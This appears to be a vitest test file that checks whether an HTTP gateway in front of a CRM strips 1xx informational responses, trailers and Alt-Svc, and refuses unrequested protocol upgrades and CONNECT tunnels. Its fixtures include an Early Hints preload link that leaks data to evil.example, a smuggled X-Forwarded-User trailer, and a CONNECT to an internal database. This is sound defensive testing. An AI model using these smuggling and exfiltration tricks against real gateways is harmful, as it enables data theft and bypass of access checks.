/** Frames beside the answer: informational ones, trailers, other protocols. Letters are the classes of threats. */

import { connect } from 'node:net';
import { once } from 'node:events';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { startRawCrm } from '../support/raw-crm.ts';
import type { RawCrm } from '../support/raw-crm.ts';
import { asNavigation, startGateway } from '../support/gateway.ts';
import type { RunningGateway } from '../support/gateway.ts';
import { sendRaw } from '../support/raw.ts';

vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });

const FINAL = 'HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 2\r\n\r\nhi';

let crm: RawCrm;
let gateway: RunningGateway;
beforeAll(async () => {
  crm = await startRawCrm();
  gateway = await startGateway({ crm: crm.url });
});
afterAll(async () => {
  await gateway?.close();
  await crm?.close();
});

/** Everything that comes back for a GET, byte for byte. */
const bytesOf = async (target: string, more = ''): Promise<string> =>
  (
    await sendRaw(
      gateway.url,
      `GET ${target} HTTP/1.1\r\nHost: 127.0.0.1\r\n${more}Connection: close\r\n\r\n`,
    )
  ).text;

describe('C9 informational answers', () => {
  it.each([
    ['103 Early Hints', 'Link: <https://evil.example/?d=CANARY>; rel=preload'],
    ['102 Processing', 'X-Data: CANARY'],
    ['199 Odd', 'X-Data: CANARY'],
  ])('C9 %s is dropped, and the answer behind it passes', async (status, field) => {
    const target = `/early/${encodeURIComponent(status)}`;
    crm.on(target, [`HTTP/1.1 ${status}\r\n${field}\r\n\r\n`, FINAL]);
    const text = await bytesOf(target);
    expect(text).toMatch(/^HTTP\/1\.1 200 OK\r\n/);
    expect(text.endsWith('\r\n\r\nhi')).toBe(true);
    expect(text).not.toContain('CANARY');
  });

  it('C9 a 100 that nobody waits for is no answer', async () => {
    crm.on('/hundred', [`HTTP/1.1 100 Continue\r\nX-Data: CANARY\r\n\r\n${FINAL}`]);
    const text = await bytesOf('/hundred');
    expect(text).toMatch(/^HTTP\/1\.1 (?:200|502) /);
    expect(text).not.toContain('CANARY');
  });

  it('C9 fields behind the body are dropped', async () => {
    crm.on('/trailer', [
      'HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Data\r\n\r\n2\r\nhi\r\n0\r\nX-Data: CANARY\r\n\r\n',
    ]);
    const text = await bytesOf('/trailer', 'TE: trailers\r\n');
    expect(text).toContain('hi');
    expect(text).not.toMatch(/CANARY|trailer/i);
  });

  it('C9 fields behind the body of a request are dropped as well', async () => {
    const before = crm.asked.length;
    const body = '2\r\nhi\r\n0\r\nX-Forwarded-User: CANARY\r\n\r\n';
    const answer = await sendRaw(
      gateway.url,
      `POST /upload HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\nTrailer: X-Forwarded-User\r\nConnection: close\r\n\r\n${body}`,
    );
    expect(answer.statuses).toEqual([200]);
    expect(crm.asked.slice(before).map(({ target }) => target)).toEqual(['/upload']);
  });
});

describe('C10 another way in', () => {
  it('C10 Alt-Svc is dropped', async () => {
    crm.on('/alt', ['HTTP/1.1 200 OK\r\nAlt-Svc: h3=":443"; ma=2592000\r\nContent-Length: 2\r\n\r\nhi']);
    const answer = await asNavigation(`${gateway.url}/alt`, {});
    expect([answer.status, answer.headers['alt-svc']]).toEqual([200, undefined]);
  });
});

describe('C11 another protocol', () => {
  const SWITCH =
    'HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\nCANARY';

  it('C11 that nobody asked for is a 502', async () => {
    crm.on('/fake', [SWITCH]);
    const text = await bytesOf('/fake');
    expect(text).toMatch(/^HTTP\/1\.1 502 /);
    expect(text).not.toContain('CANARY');
    expect(text).toContain('UPSTREAM_INVALID');
  });

  it('C11 is no way around the judgement of an export', async () => {
    crm.on('/export?fake', [SWITCH]);
    const text = await bytesOf(
      '/export?fake',
      'Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nCookie: crm_session=t-lilei\r\n',
    );
    expect(text).toMatch(/^HTTP\/1\.1 502 /);
    expect(text).not.toContain('CANARY');
  });

  it('C11 is not opened by CONNECT', async () => {
    const { hostname, port } = new URL(gateway.url);
    const socket = connect(Number(port), hostname);
    socket.write('CONNECT db.internal:5432 HTTP/1.1\r\nHost: db.internal:5432\r\n\r\n');
    const chunks: Buffer[] = [];
    socket.on('data', (chunk: Buffer) => chunks.push(chunk));
    socket.on('error', () => undefined);
    await once(socket, 'close');
    expect(Buffer.concat(chunks).toString()).not.toMatch(/^HTTP\/1\.1 2/);
  });
});
